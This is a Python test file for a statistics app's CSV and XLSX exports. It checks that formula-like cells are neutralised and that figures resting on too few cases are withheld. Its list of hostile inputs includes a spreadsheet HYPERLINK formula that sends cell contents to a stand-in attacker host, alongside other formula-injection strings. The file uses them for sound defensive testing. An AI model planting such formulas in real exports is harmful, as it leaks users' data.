"""Exports neutralise text a spreadsheet would run as a formula (OWASP CSV
injection: cells starting with =, +, -, @, tab or CR) without changing what a reader
sees; small totals and sums of money over few cases are withheld."""

from __future__ import annotations

import copy
import csv
import io

import pytest
from openpyxl import load_workbook

from inspect_app.extensions import db
from inspect_app.stats import exports, services
from inspect_app.stats.periods import Period
from tests.stats.conftest import vn

Q3 = Period.quarter(2026, 3)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


@pytest.fixture
def published(dataset):
    staff = dataset.org.association
    report = services.create_draft(staff, Q3, 1, now=vn("2026-10-01 09:00"))
    services.update_draft(report, title=HOSTILE[0], commentary=HOSTILE[1])
    services.publish_report(report, staff, now=vn("2026-10-02 09:00"))
    db.session.commit()
    return services.published_snapshot(report)


def _hostile_labels(data: dict) -> dict:
    data = copy.deepcopy(data)
    for row, text in zip(data["breakdowns"]["category"], HOSTILE, strict=False):
        row["label"] = {"vi": text, "en": text}
    return data


def test_csv_cells_that_start_a_formula_get_an_apostrophe(published):
    data = _hostile_labels(published)
    rows = list(csv.reader(io.StringIO(exports.to_csv(data).lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    for text in HOSTILE[: len(data["breakdowns"]["category"])]:
        assert "'" + text in cells
        assert text not in cells
    # Numbers stay numbers: nothing else is touched.
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert any(c == "11" for c in cells)


def test_xlsx_writes_formula_like_text_as_text_that_reads_the_same(published):
    book = load_workbook(io.BytesIO(exports.to_xlsx(_hostile_labels(published))))
    about = {r[0].value: r[1] for r in book["report"].iter_rows(min_row=2)}
    assert about["title"].value == HOSTILE[0] and about["title"].data_type == "s"
    assert about["commentary"].value == HOSTILE[1] and about["commentary"].data_type == "s"
    assert about["title"].quotePrefix
    labels = [r[1] for r in book["category"].iter_rows(min_row=2)]
    assert [c.value for c in labels] == HOSTILE[: len(labels)]
    assert all(c.data_type == "s" for c in labels)
    # No cell anywhere is a formula.
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_a_report_with_too_few_cases_withholds_the_resolved_figures(dataset):
    """September in Hồ Chí Minh City: one resolved case (c11, fine 3.000.000). Its
    total, its fine and every breakdown would describe that one case."""
    staff = dataset.org.association
    staff.association.province_code = None  # national: may build HCM
    report = services.create_draft(staff, Period.month(2026, 9), 79, now=vn("2026-10-01 09:00"))
    data = services.preview(report)
    db.session.rollback()
    totals = data["totals"]
    assert totals["resolved"] is None and totals["fines_vnd"] is None
    assert totals["median_days"] is None
    assert "resolved" in data["suppression"]["withheld"]
    for name, rows in data["breakdowns"].items():
        assert rows and all(row["value"] is None for row in rows), name
    assert "3000000" not in str(data) and "3.000.000" not in str(data)
    text = exports.to_csv(data)
    assert "3000000" not in text
